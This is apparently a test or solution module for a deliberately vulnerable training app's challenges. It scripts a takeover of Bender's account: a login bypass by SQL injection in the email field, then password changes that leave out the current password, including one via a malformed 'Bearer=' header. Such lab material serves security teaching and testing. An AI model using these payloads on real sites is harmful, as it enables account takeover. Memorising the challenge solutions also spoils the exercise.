import type { Attack, Tools } from '#lab'

const NEW_PASSWORD = 'slurmCl4ssic'

/** Opens Bender's session by injection and changes the password with this query. */
async function change(
  { logIn, http, expect, settings }: Tools,
  query: string,
  authorization = 'Bearer ',
): Promise<void> {
  const { token } = await logIn(`bender@${settings.domain}'--`, 'a')
  const headers = { authorization: `${authorization}${token}` }
  const answer = await http.get(`/rest/user/change-password?${query}`, { headers })
  expect(answer.status === 200, `changing the password was answered with ${answer.status}`)
}

const challenge = 'changePasswordBenderChallenge'

export const attacks: Attack[] = [
  {
    challenge,
    name: 'a change that leaves out the current password',
    run: (tools) => change(tools, `new=${NEW_PASSWORD}&repeat=${NEW_PASSWORD}`),
  },
  {
    challenge,
    name: 'a change that leaves it empty',
    run: (tools) => change(tools, `current=&new=${NEW_PASSWORD}&repeat=${NEW_PASSWORD}`),
  },
  {
    challenge,
    name: 'as the script in a crafted search sends it, with Bearer=',
    run: (tools) => change(tools, `new=${NEW_PASSWORD}&repeat=${NEW_PASSWORD}`, 'Bearer='),
  },
]
